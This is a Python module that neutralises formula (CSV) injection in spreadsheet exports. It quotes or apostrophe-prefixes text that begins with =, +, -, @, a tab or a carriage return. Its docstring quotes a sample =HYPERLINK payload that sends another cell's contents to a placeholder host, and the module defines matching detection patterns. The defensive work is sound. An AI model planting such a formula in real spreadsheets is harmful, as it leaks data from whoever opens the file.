"""Values written to spreadsheets stay inert text: no formula injection.

A collaborator can type ``=HYPERLINK("http://x/?"&C2, "…")`` as an address; an officer who opens
the export would run it. Following OWASP's CSV-injection guidance, every writer (xlsx and CSV)
passes its values through this module:

- xlsx: a text value that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
  written as a string cell (``data_type`` ``"s"``, never ``"f"``) with Excel's quote prefix, so
  that neither opening nor editing the cell evaluates it. The value itself is unchanged.
- CSV: such a value gets a leading apostrophe (Excel shows the rest as text). Plain numbers such
  as ``-1,5`` are left alone: they cannot hold a formula.

Readers (imports) refuse or neutralise such values on their side.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any, Final

import polars as pl
from openpyxl.cell import WriteOnlyCell

if TYPE_CHECKING:
    import polars as pl

DANGEROUS_FIRST: Final = ("=", "+", "-", "@", "\t", "\r")
# Regular-expression forms of the same rule, for vectorised (polars) writers.
DANGEROUS_PATTERN: Final = r"^[=+\-@\t\r]"
NUMBER_PATTERN: Final = r"^[+-]?[0-9]+(?:[.,][0-9]+)?$"
_NUMBER = re.compile(NUMBER_PATTERN)


def is_formula_like(value: object) -> bool:
    """Whether a spreadsheet program could read ``value`` as a formula."""
    return isinstance(value, str) and value.startswith(DANGEROUS_FIRST)


def inert_text(value: Any) -> Any:
    """``value`` for a CSV cell: formula-like text gets a leading apostrophe; other values
    (numbers, dates, ordinary text, plain signed numbers) are returned unchanged."""
    if is_formula_like(value) and not _NUMBER.match(value):
        return "'" + value
    return value


def inert_csv_row(row: Iterable[Any]) -> list[Any]:
    return ["" if value is None else inert_text(value) for value in row]


def inert_text_expr(column: pl.Expr) -> pl.Expr:
    """:func:`inert_text` on a polars string column."""

    dangerous = column.str.contains(DANGEROUS_PATTERN) & ~column.str.contains(NUMBER_PATTERN)
    # ``then(column)`` first: the result keeps the column's name.
    return pl.when(~dangerous).then(column).otherwise(pl.lit("'") + column)


def make_inert(cell: Any) -> None:
    """Turn a cell holding formula-like text into a quoted string cell (value unchanged)."""
    if isinstance(cell.value, str) and (
        cell.data_type in {"f", "e"} or cell.value.startswith(DANGEROUS_FIRST)
    ):
        cell.data_type = "s"
        cell.quotePrefix = True


def inert_row(sheet: Any, values: Sequence[Any], columns: Iterable[int] | None = None) -> list[Any]:
    """A row for ``sheet.append`` on a write-only sheet: formula-like text becomes a quoted
    string cell. ``columns``: the only positions that can hold such text (a fast path for big
    exports that checked their columns beforehand); None checks every value."""

    row = list(values)
    for index in range(len(row)) if columns is None else columns:
        value = row[index]
        if is_formula_like(value):
            cell = WriteOnlyCell(sheet, value)
            make_inert(cell)
            row[index] = cell
    return row


def inert_workbook(workbook: Any) -> None:
    """Make every formula-like text cell of a normal (not write-only) workbook inert. Our
    writers never write formulas into cells, so every formula found came from data."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    make_inert(cell)
